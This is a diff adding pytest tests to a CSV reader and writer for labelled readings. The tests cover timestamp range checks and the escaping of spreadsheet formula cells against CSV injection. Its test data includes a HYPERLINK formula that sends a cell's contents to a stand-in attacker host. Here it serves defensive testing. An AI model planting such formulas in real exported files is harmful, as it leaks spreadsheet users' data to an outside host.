@@ -1,5 +1,6 @@
 """The labelled-readings CSV, parsed and written without a database."""
 
+import csv
 import datetime
 import io
 
@@ -10,12 +11,14 @@ from stethoscope.labels.csvio import (
     LabelledRow,
     RowError,
     data_row,
+    escape_cell,
     format_timestamp,
     header_row,
     parse_rssi,
     parse_timestamp,
     read_rows,
     round_rssi,
+    unescape_cell,
 )
 
 UTC = datetime.UTC
@@ -150,4 +153,69 @@ def test_writing_then_reading_gives_the_same_row():
         "",
         "",
         "-70",
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "9999-12-31T23:59:59Z",  # its run's end (+ 1 s) overflowed the import
+        "3000-01-01T00:00:00Z",
+        "1969-12-31T23:59:59Z",
+        "-1",
+        "99999999999",  # epoch seconds: the year 5138
+    ],
+)
+def test_timestamps_outside_1970_to_2999_are_row_errors(text):
+    assert rows(HEADER + f"{text},b1,,-60,\n") == [
+        RowError(2, "timestamp", f"{text!r} is outside the years 1970-2999")
+    ]
+
+
+@pytest.mark.parametrize(
+    "text", ["1970-01-01T00:00:00Z", "2999-12-31T23:59:59.999999Z"]
+)
+def test_the_first_and_last_times_taken(text):
+    assert rows(HEADER + f"{text},b1,,-60,\n")[0].observed_at == parse_timestamp(text)
+
+
+# What a spreadsheet would run as a formula (OWASP, "CSV injection").
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(9)"]
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        *((formula, "'" + formula) for formula in FORMULAS),
+        ("\t=1", "'\t=1"),
+        # Quotes already there get one more, so reading back is exact.
+        ("'=1", "''=1"),
+        ("''-1", "'''-1"),
+        ("'plain", "'plain"),
+        ("a=b", "a=b"),
+        ("'", "'"),
+        ("", ""),
+    ],
+)
+def test_formula_cells_are_written_with_a_quote(text, written):
+    assert escape_cell(text) == written
+    assert unescape_cell(written) == text
+
+
+def test_formula_ids_are_written_as_text_and_read_back():
+    ids = [*FORMULAS, "'=1", "'plain"]
+    moment = datetime.datetime(2016, 3, 1, 8, 0, 47, tzinfo=UTC)
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(header_row(ids))
+    for badge in ids:
+        writer.writerow(data_row(moment, badge, "=1+1", {ids[0]: -70}, ids))
+    text = out.getvalue()
+    # No cell a spreadsheet would run; the RSSI (a number) as it was.
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    formulas = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert formulas == ["-70"] * len(ids)
+    assert rows(text) == [
+        LabelledRow(line, moment, badge, "=1+1", {ids[0]: -70})
+        for line, badge in enumerate(ids, start=2)
     ]
